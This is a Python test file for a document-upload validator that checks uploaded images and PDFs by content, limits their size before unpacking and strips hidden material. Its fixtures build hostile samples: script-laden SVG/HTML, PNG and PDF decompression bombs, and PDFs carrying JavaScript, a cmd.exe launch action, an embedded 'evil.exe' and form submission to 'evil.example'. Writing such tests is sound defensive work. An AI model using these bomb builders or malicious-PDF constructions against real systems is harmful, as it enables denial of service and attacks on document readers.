"""What applicants upload: judged by content, bounded before it is unpacked, never run, kept under its own digest."""

import io
import struct
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from PIL import Image, ImageFile, PngImagePlugin

from issuer.sentences import say
from office.applications import documents, portable
from office.applications.documents import OCTETS_MAX, Document, Store
from office.applications.errors import DocumentError
from tests.office.applications.workplace import pdf


def code_of(content: bytes) -> str:
    """The code with which a file is refused; it has a sentence in both languages."""
    with pytest.raises(DocumentError) as refused:
        documents.parse(content)
    assert say(refused.value.code, "ar") != say(refused.value.code, "en")
    return refused.value.code


def picture(format_: str, size: tuple[int, int] = (60, 40), **more: object) -> bytes:
    written = io.BytesIO()
    Image.new("RGB", size, "teal").save(written, format_, **more)
    return written.getvalue()


def saved(change: Callable[[pikepdf.Pdf], object], **options: object) -> bytes:
    made = pikepdf.open(io.BytesIO(pdf()))
    change(made)
    written = io.BytesIO()
    made.save(written, **options)  # type: ignore[arg-type]
    return written.getvalue()


@pytest.mark.parametrize(("format_", "media"), [("PNG", "image/png"), ("JPEG", "image/jpeg")])
def test_pictures_are_taken_and_made_anew(format_: str, media: str) -> None:
    taken = documents.parse(picture(format_))
    assert taken.media == media
    with Image.open(io.BytesIO(taken.content)) as again:
        assert (again.size, again.format) == ((60, 40), format_)


def test_a_page_is_taken_as_it_came() -> None:
    assert documents.parse(pdf()) == Document("application/pdf", pdf())


@pytest.mark.parametrize(
    "content",
    [
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        b"<?xml version='1.0'?><svg/>",
        b"<html><script>alert(1)</script>",
        b"GIF89a" + bytes(20),
        b"PK\x03\x04" + bytes(40),
        b"MZ" + bytes(100),
        b"RIFF\x00\x00\x00\x00WEBPVP8 ",
        b"BM" + bytes(60),
        b"II*\x00" + bytes(40),
        b"%!PS-Adobe-3.0",
        b" %PDF-1.7",
        b"<script>alert(1)</script>%PDF-1.7",
        b"\x00",
    ],
)
def test_anything_else_is_refused_whatever_it_is_called(content: bytes) -> None:
    assert code_of(content) == "document_type"


def test_nothing_and_too_much_are_refused() -> None:
    assert code_of(b"") == "document_empty"
    assert code_of(b"%PDF-" + bytes(OCTETS_MAX)) == "document_too_large"


def bomb(width: int, height: int) -> bytes:
    """A PNG of few octets that unpacks to width times height pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    packer = zlib.compressobj(9)
    row = bytes(1 + width // 8)
    rows = b"".join(packer.compress(row) for _ in range(min(height, 20_000))) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


@pytest.mark.parametrize("size", [(60_000, 60_000), (12_001, 8), (8, 100_000), (7_000, 6_000)])
def test_a_picture_that_unpacks_too_far_is_refused_before_it_does(size: tuple[int, int]) -> None:
    assert code_of(bomb(*size)) in ("document_too_large", "document_broken")


def test_text_chunks_that_unpack_too_far_are_refused() -> None:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "a" * (70 << 20), zip=True)
    content = picture("PNG", pnginfo=info)
    assert len(content) < OCTETS_MAX
    assert code_of(content) == "document_broken"


def test_what_hides_in_a_picture_is_gone() -> None:
    exif = Image.Exif()
    exif[0x010E] = "SECRET-PLACE"
    content = picture("JPEG", exif=exif) + b"<script>alert(1)</script>PK\x03\x04"
    taken = documents.parse(content).content
    assert b"SECRET-PLACE" not in taken
    assert b"<script>" not in taken
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    assert b"script" not in documents.parse(picture("PNG", pnginfo=info)).content


def test_half_a_picture_is_refused_also_where_papers_are_made(monkeypatch: pytest.MonkeyPatch) -> None:
    """WeasyPrint, which makes our papers, lets Pillow take half a picture for a whole one, in the whole process."""
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    noise = Image.effect_noise((300, 200), 80)
    written = io.BytesIO()
    noise.save(written, "JPEG")
    assert code_of(written.getvalue()[: written.tell() // 2]) == "document_broken"


def test_a_picture_of_another_kind_in_the_clothes_of_one_is_refused() -> None:
    assert code_of(b"\xff\xd8\xff" + picture("PNG")) == "document_broken"
    assert code_of(b"\x89PNG\r\n\x1a\n" + b"GIF89a" + bytes(100)) == "document_broken"
    assert code_of(picture("JPEG")[:200]) == "document_broken"


def javascript(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def hidden_javascript(made: pikepdf.Pdf) -> None:
    # A name may be written with escapes: /J#61vaScript. A parser sees through them, a search for the word does not.
    made.Root.Names = made.make_indirect(pikepdf.Dictionary({"/JavaScript": pikepdf.Dictionary(Names=pikepdf.Array([]))}))


def launch(made: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    annotation = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    made.pages[0].Annots = pikepdf.Array([annotation])


def embedded(made: pikepdf.Pdf) -> None:
    made.attachments["evil.exe"] = b"MZ" * 40


def form_program(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([]), XFA=pikepdf.Array([]))


def on_opening_the_page(made: pikepdf.Pdf) -> None:
    made.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("http://evil.example/")))


def submits(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://evil.example/"))


def media(made: pikepdf.Pdf) -> None:
    made.pages[0].Annots = pikepdf.Array([made.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia))])


@pytest.mark.parametrize("change", [javascript, hidden_javascript, launch, embedded, form_program, on_opening_the_page, submits, media])
@pytest.mark.parametrize("streams", [pikepdf.ObjectStreamMode.disable, pikepdf.ObjectStreamMode.generate])
def test_a_pdf_that_acts_is_refused_wherever_it_hides_that(
    change: Callable[[pikepdf.Pdf], None], streams: pikepdf.ObjectStreamMode
) -> None:
    assert code_of(saved(change, object_stream_mode=streams)) == "document_active"


def test_escaped_names_do_not_hide_a_program() -> None:
    content = saved(javascript, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    assert b"/JavaScript" in content
    assert code_of(content.replace(b"/JavaScript", b"/JavaScr#69pt")) in ("document_active", "document_broken")


def test_a_harmless_link_and_an_outline_are_let_pass() -> None:
    def link(made: pikepdf.Pdf) -> None:
        action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://www.alexandria.gov.eg/"))
        made.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)])
        with made.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("One", 0))

    assert documents.parse(saved(link)).media == "application/pdf"


def test_a_pdf_with_a_password_is_refused() -> None:
    for user in ("", "secret"):
        assert code_of(saved(lambda made: None, encryption=pikepdf.Encryption(owner="owner", user=user))) == "document_locked"


@pytest.mark.parametrize("content", [b"", bytes(1000), b"xref\n0 1\ntrailer<</Size 1>>\nstartxref\n9\n%%EOF"])
def test_a_broken_pdf_is_refused(content: bytes) -> None:
    assert code_of(b"%PDF-1.7\n" + content) == "document_broken"


def test_a_pdf_that_unpacks_too_far_is_refused_and_its_reader_is_stopped() -> None:
    """An object stream of 1.3 GB behind 6 MB."""
    packer = zlib.compressobj(1)
    packed = b"".join(packer.compress(bytes(16 << 20)) for _ in range(80)) + packer.flush()
    objects = [
        b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n",
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n",
    ]
    head = b"5 0 obj<</Type/ObjStm/N 1/First 10/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    objects.append(head + packed + b"\nendstream endobj\n")
    body = b"%PDF-1.5\n"
    places = []
    for each in objects:
        places.append(len(body))
        body += each
    table = b"".join(struct.pack(">BIB", 1, place, 0) for place in (*places[:2],))
    rows = struct.pack(">BIB", 0, 0, 255) + table + struct.pack(">BIB", 2, 5, 0) + struct.pack(">BIB", 0, 0, 0)
    rows += struct.pack(">BIB", 1, places[2], 0) + struct.pack(">BIB", 1, len(body), 0)
    cross = b"6 0 obj<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(rows) + rows + b"\nendstream endobj\n"
    content = body + cross + b"startxref\n%d\n%%%%EOF" % len(body)
    assert len(content) < OCTETS_MAX
    assert code_of(content) == "document_broken"


def test_a_reader_that_takes_too_long_is_stopped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(portable, "SECONDS_MAX", 0.01)
    with pytest.raises(DocumentError) as refused:
        portable.check(pdf())
    assert refused.value.code == "document_broken"


def test_the_store_keeps_what_it_was_given_and_notices_what_was_changed(tmp_path: Path) -> None:
    store = Store(tmp_path / "documents")
    document = Document("application/pdf", pdf())
    digest = store.put(document)
    assert store.put(document) == digest == document.digest
    assert store.get(digest) == pdf()
    (path,) = [path for path in (tmp_path / "documents").rglob("*") if path.is_file()]
    path.chmod(0o600)
    path.write_bytes(b"other")
    with pytest.raises(DocumentError):
        store.get(digest)
    with pytest.raises(DocumentError):
        store.get(bytes(32))
